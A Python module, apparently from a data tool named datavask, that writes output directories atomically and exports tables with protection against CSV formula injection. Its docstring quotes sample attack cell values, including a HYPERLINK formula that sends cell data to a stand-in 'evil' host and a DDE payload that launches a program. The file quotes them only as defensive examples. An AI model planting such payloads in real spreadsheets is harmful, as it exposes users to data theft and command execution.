"""Write a run's output directory so that it is either complete or absent.

Everything is written into a hidden sibling directory and renamed into place at the end; a crash
or Ctrl-C leaves the previous result (or nothing) where the user looks, never half a result. An
existing ``--out`` directory is replaced only when it holds an earlier datavask run.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final

import polars as pl

from datavask.connectors.errors import InputError


def check_out_dir(out: Path) -> None:
    """Refuse early (before any work) to replace a directory that is not a datavask run."""
    if out.exists() and (
        not out.is_dir() or (any(out.iterdir()) and not (out / "run.json").exists())
    ):
        raise InputError(
            f"--out {out} exists and is not a datavask run directory; "
            "choose a new or empty directory"
        )


@contextlib.contextmanager
def atomic_dir(out: Path) -> Iterator[Path]:
    """Yield a temporary directory that becomes ``out`` when the block finishes without error."""
    check_out_dir(out)
    out.parent.mkdir(parents=True, exist_ok=True)
    tmp = out.parent / f".{out.name}.partial-{uuid.uuid4().hex[:8]}"
    tmp.mkdir()
    try:
        yield tmp
        _fsync_tree(tmp)
        if out.exists():
            old = out.parent / f".{out.name}.old-{uuid.uuid4().hex[:8]}"
            out.rename(old)
            tmp.rename(out)
            shutil.rmtree(old, ignore_errors=True)
        else:
            tmp.rename(out)
    finally:
        if tmp.exists():
            shutil.rmtree(tmp, ignore_errors=True)


def _fsync_tree(root: Path) -> None:
    for path in root.rglob("*"):
        if path.is_file():
            with path.open("rb") as fh:
                os.fsync(fh.fileno())


def flat_for_text(frame: pl.DataFrame) -> pl.DataFrame:
    """Lists become ``a|b`` and structs JSON, so a frame fits CSV and Excel cells."""
    exprs = []
    for name, dtype in frame.schema.items():
        if isinstance(dtype, pl.List):
            exprs.append(pl.col(name).cast(pl.List(pl.String)).list.join("|").alias(name))
        elif isinstance(dtype, pl.Struct):
            exprs.append(pl.col(name).struct.json_encode().alias(name))
        else:
            exprs.append(pl.col(name))
    return frame.select(exprs)


# OWASP "CSV injection": a cell starting with one of these is read by Excel as a formula.
FORMULA_START: Final = r"^[=+\-@\t\r]"
# ... unless it is a number or phone number: digits, spaces and + - . , ( ) / only. Without a
# letter, a quote, "!" or "|" no function, cell reference or DDE call can be written, so Excel can
# at worst do arithmetic (it shows +4512345678 as 4512345678); "=" and "@" always start a formula.
PLAIN_NUMBER: Final = r"^[+\-][0-9 .,()/+\-]*[0-9][0-9 .,()/+\-]*$"


def neutralise_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """Text cells that Excel would run as a formula get a leading ``'`` (the OWASP rule).

    ``=HYPERLINK("http://evil/?"&A1)`` becomes ``'=HYPERLINK(…)``, shown as typed, never run;
    ``@SUM(A1)``, ``-2+3+cmd|' /C calc'!A0``, a leading tab or carriage return likewise. Numbers and
    phone numbers (``+4512345678``, ``-250.00``, ``+45 33 12 12 12``) are left as they are: a CRM
    loading them needs them unchanged, and they cannot carry a formula (see ``PLAIN_NUMBER``).
    """
    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    if not text:
        return frame
    risky = pl.col(text).str.contains(FORMULA_START) & ~pl.col(text).str.contains(PLAIN_NUMBER)
    return frame.with_columns(
        pl.when(risky).then(pl.lit("'") + pl.col(text)).otherwise(pl.col(text)).name.keep()
    )


def write_excel_csv(frame: pl.DataFrame, path: Path) -> Path:
    """A CSV a Danish Excel opens by double-click: UTF-8 with BOM (æøå intact), ``;`` between
    fields (Danish Excel's list separator, as ``,`` is its decimal comma), formulas neutralised."""
    neutralise_formulas(flat_for_text(frame)).write_csv(path, separator=";", include_bom=True)
    return path


def read_excel_csv(path: Path) -> pl.DataFrame:
    """Read back a :func:`write_excel_csv` file, every column as text."""
    return pl.read_csv(path, separator=";", infer_schema=False, encoding="utf8")


def write_table(frame: pl.DataFrame, path: Path) -> Path:
    """Write ``frame`` in the format the path's suffix names (.parquet, .csv or .xlsx)."""
    suffix = path.suffix
    if suffix == ".parquet":
        frame.write_parquet(path, statistics=False)
    elif suffix == ".csv":
        neutralise_formulas(flat_for_text(frame)).write_csv(path)
    elif suffix == ".xlsx":
        flat_for_text(frame).write_excel(path, autofit=False)
    else:
        raise ValueError(f"cannot write {suffix} tables")
    return path


def write_json(data: dict[str, Any], path: Path) -> Path:
    path.write_text(
        json.dumps(data, indent=2, ensure_ascii=False, default=str) + "\n", encoding="utf-8"
    )
    return path
